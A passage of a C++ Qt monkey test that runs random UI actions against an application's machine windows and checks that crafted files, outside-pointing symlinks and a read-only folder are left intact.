        ++counts[a.text.section(u' ', 0, 0)];
        const QStringList before = documentShown();
        // What a pasting action left there is no copy of a table.
        if (a.tableCopy)
            QApplication::clipboard()->clear();
        watch.begin(report());
        QElapsedTimer clock;
        clock.start();
        const QList<ModalSeen> seen = closeModalsDuring(
            [&] {
                a.run();
                QCoreApplication::processEvents();
            },
            [this](QWidget *modal) { answer(modal); });
        watch.end();
        if (clock.elapsed() > slowestMs) {
            slowestMs = clock.elapsed();
            slowest = log.back();
        }
        if (!seen.isEmpty()) {
            QStringList names;
            for (const ModalSeen &s : seen)
                names << (s.objectName.isEmpty() ? "\"" + s.title + "\"" : s.objectName);
            log.back() += " -> " + names.join(u',') + " by " + answers.join(u',');
        }
        checkWindows(seen);
        checkOpened(seen, before);
        checkFiles();
        if (a.tableCopy)
            checkClipboard();
        return failure.isEmpty();
    }

    // --- the run's folder
    bool makeFiles() {
        const QDir dir(work);
        for (const char *sub : {"files", "save", "ro"})
            if (!dir.mkpath(QLatin1String(sub)))
                return false;
        const QString pipe = dir.filePath(QStringLiteral("files/pipe.json"));
        hostile = hostileTexts(pipe);
        for (const Crafted &c : craftedFiles(pipe)) {
            const QString path = dir.filePath("files/" + c.name);
            if (!c.make(path))
                return false;
            openPaths << "files/" + c.name;
            opens[QFileInfo(path).canonicalFilePath()] = c.opens;
        }
        // The sentinel folder: one file reached through a link as a machine
        // file, one as any file, one never.
        sentinel.emplace();
        outside = QFileInfo(sentinel->path()).canonicalFilePath();
        const QByteArray good = machine::machineFileBytes(baseState());
        const QDir out(outside);
        if (!writeBytes(out.filePath("linked.json"), good) ||
            !writeBytes(out.filePath("linked.txt"), "не трогать\n") ||
            !writeBytes(out.filePath("untouched.json"), good))
            return false;
        opens[out.filePath("linked.json")] = true;
        const std::pair<QString, QString> links[] = {
            {out.filePath("linked.json"), "files/outside.json"},
            {out.filePath("linked.txt"), "save/outside-text.json"},
            {"good.json", "files/link.json"},
            {"../files", "save/folder-link"},
            {"not-yet.json", "save/dangling.json"},
        };
        for (const auto &[target, link] : links)
            if (!QFile::link(target, dir.filePath(link)))
                return false;
        openPaths += {"files/outside.json", "files/link.json", "save/folder-link/good.json",
                      "save/a.json", "save/table.csv"};
        savePaths = {"save/a.json",
                     "save/b",
                     "save/table.csv",
                     "save/Таблица 1.csv",
                     "files/good.json",
                     "save/outside-text.json",
                     "files/outside.json",
                     "save/dangling.json",
                     "save/folder-link/new.json",
                     "save/folder-link",
                     "save/no-such-folder/m.json"};
        readOnlyNote = makeReadOnly(good);
        return true;
    }
    // As root a read-only tmpfs holding a machine file; otherwise a folder
    // without write permission. Says why it could not be made.
    QString makeReadOnly(const QByteArray &bytes) {
        const QByteArray point = QFile::encodeName(QDir(work).filePath("ro"));
        const QString file = QDir(work).filePath("ro/machine.json");
        if (::geteuid() == 0) {
            if (::mount("tmpfs", point.constData(), "tmpfs", 0, "size=256k") != 0)
                return QStringLiteral("no tmpfs mount allowed");
            mounted = true;
            if (!writeBytes(file, bytes) ||
                ::mount("tmpfs", point.constData(), "tmpfs", MS_REMOUNT | MS_RDONLY, nullptr) != 0)
                return QStringLiteral("the tmpfs could not be made read-only");
        } else if (!writeBytes(file, bytes) || ::chmod(point.constData(), 0555) != 0) {
            return QStringLiteral("no read-only folder");
        }
        opens[QFileInfo(file).canonicalFilePath()] = true;
        openPaths << "ro/machine.json";
        savePaths += {"ro/machine.json", "ro/new.json"};
        return {};
    }
    void dropReadOnly() {
        const QByteArray point = QFile::encodeName(QDir(work).filePath("ro"));
        if (mounted)
            ::umount2(point.constData(), MNT_DETACH);
        else
            ::chmod(point.constData(), 0755);
        mounted = false;
    }

    void printSummary() const {
        QStringList parts;
        for (auto it = counts.cbegin(); it != counts.cend(); ++it)
            parts << QStringLiteral("%1 %2").arg(it.key()).arg(it.value());
        qInfo("monkey: %s", qPrintable(parts.join(QStringLiteral(", "))));
        qInfo("monkey: slowest action %lld ms: %s", slowestMs, qPrintable(slowest));
        if (!readOnlyNote.isEmpty())
            qInfo("monkey: without the read-only folder: %s", qPrintable(readOnlyNote));
    }

private slots:
    void initTestCase() { monkey::quietPlatformWarnings(true); }
    void cleanupTestCase() { monkey::quietPlatformWarnings(false); }

    void init() {
        seed = quint32(monkey::environmentInt("MONKEY_SEED", kDefaultSeed));
        rng.seed(seed);
        QVERIFY(startMainWindow());
        work = QFileInfo(fixture->workDir.path()).canonicalFilePath();
        QVERIFY(makeFiles());
        for (QLineEdit *edit : form->findChildren<QLineEdit *>())
            if (edit->window() == form.get())
                mainEdits << edit;
        lastTree = scanTree({work, outside});
    }
    void cleanup() {
        form.reset();
        dropReadOnly();
        stopMainWindow();
        sentinel.reset();
    }

    void random_actions_in_the_machine_windows_keep_the_files_and_texts_safe() {
        const int actions = monkey::environmentInt("MONKEY_ACTIONS", kDefaultActions);
        qInfo("monkey: MONKEY_SEED=%u MONKEY_ACTIONS=%d", seed, actions);
        QElapsedTimer clock;
        clock.start();
        {
            // A hung run ends without cleanup(); the mount must not outlive it.
            const QByteArray point = QFile::encodeName(QDir(work).filePath("ro"));
            monkey::HangWatch watch(kHangLimit, [point, mounted = mounted] {
                if (mounted)
                    ::umount2(point.constData(), MNT_DETACH);
            });
            for (actionNumber = 1; actionNumber <= actions; ++actionNumber) {
                if (!step(nextAction(), watch)) {
                    qInfo("monkey: failed with MONKEY_SEED=%u", seed);
                    QFAIL(qPrintable(failure + QLatin1Char('\n') + QString::fromUtf8(report())));
                }
                if (actionNumber % 100 == 0)
                    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
            }
        }
        qInfo("monkey: %d actions in %.1f s", actions, double(clock.elapsed()) / 1000.0);
        printSummary();
    }
};

QTEST_MAIN(MachineMonkeyTest)
#include "tst_machine_monkey.moc"
